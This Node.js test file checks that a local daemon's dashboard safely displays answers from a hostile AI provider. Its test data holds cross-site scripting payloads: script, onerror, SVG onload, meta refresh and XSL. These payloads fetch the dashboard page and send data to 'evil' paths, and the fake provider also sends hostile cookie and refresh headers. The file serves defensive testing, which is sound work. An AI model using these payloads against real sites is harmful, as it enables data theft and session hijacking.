// answers: what a hostile provider answers has the dashboard's own origin when a browser shows it. It shows it, and no more.
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { after, before, test } from 'node:test';
import { startBrowser } from './browser.mjs';
import { Daemon } from './daemon.mjs';

let browser;
before(async () => {
  browser = await startBrowser();
});
after(() => browser.stop());

// Each way of a page to do something by itself asks for a path of its own.
const RUN = (how) => `fetch('/-/').then((r) => r.text()).then((t) => fetch('/evil/v1/stolen-${how}?' + t.length))`;
const DO = (how) => `new Image().src = '/evil/v1/stolen-${how}-image'; ${RUN(how)}`;
const PAGE = `<!doctype html><meta http-equiv="refresh" content="0;url=/evil/v1/stolen-by-refresh">
<link rel="stylesheet" href="/evil/v1/stolen-style"><script>${DO('html')}</script>
<script src="/evil/v1/stolen-script"></script><img src="/evil/v1/stolen-img" onerror="${DO('onerror')}">
<iframe src="/evil/v1/stolen-frame"></iframe><form id="f" action="/evil/v1/stolen-form"></form><p>shown</p>`;
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="${DO('onload')}"><script>${DO('svg')}</script></svg>`;

const pages = [
  ['text/html', PAGE],
  ['text/html; charset=utf-8', PAGE],
  [null, PAGE],
  ['text/plain', PAGE],
  ['application/json', PAGE],
  ['image/svg+xml', SVG],
  ['application/xhtml+xml', SVG],
  ['text/xml', `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="/evil/v1/stolen-xsl"?>${SVG}`],
];

// Answers `/N` with the N-th page, and keeps what it was asked for.
async function startProvider() {
  const asked = [];
  const server = createServer((request, answer) => {
    const [type, text] = pages[Number(/\/(\d+)$/.exec(request.url)?.[1] ?? 0)];
    asked.push({ url: request.url, cookie: request.headers.cookie, referer: request.headers.referer });
    answer.writeHead(200, {
      ...(type ? { 'Content-Type': type } : {}),
      'Set-Cookie': ['metergate=evil; Path=/', 'tracked=1; Path=/'],
      Refresh: '0;url=/evil/v1/stolen-by-header',
      'Content-Security-Policy': "default-src * 'unsafe-inline'",
      'Service-Worker-Allowed': '/',
    });
    answer.end(text);
  });
  await new Promise((listening) => server.listen(0, '127.0.0.1', listening));
  return { server, asked, port: server.address().port };
}

test('test_answer__opened_in_a_browser__is_shown_and_runs_nothing', async () => {
  const provider = await startProvider();
  const daemon = new Daemon(`  evil: {dialect: openai, base_url: "http://127.0.0.1:${provider.port}"}\n`);
  await daemon.start();
  const page = await browser.page();
  try {
    for (const n of pages.keys()) await page.open(`${daemon.url}/evil/v1/${n}`);
    await page.open(`${daemon.url}/-/`); // whatever was to happen has been begun
    await page.until(`document.getElementById('state').textContent === 'Running'`);
    assert.equal(await page.eval('document.cookie'), '');
    const { cookies } = await page.send('Network.getCookies', { urls: [daemon.url] });
    assert.deepEqual(cookies, []);
    assert.deepEqual(
      provider.asked.map((r) => r.url).filter((url) => !url.includes('favicon')),
      [...pages.keys()].map((n) => `/${n}`),
    );
    assert.ok(provider.asked.every((r) => !r.cookie && !r.referer));
  } finally {
    await page.close();
    await daemon.remove();
    provider.server.close();
  }
});
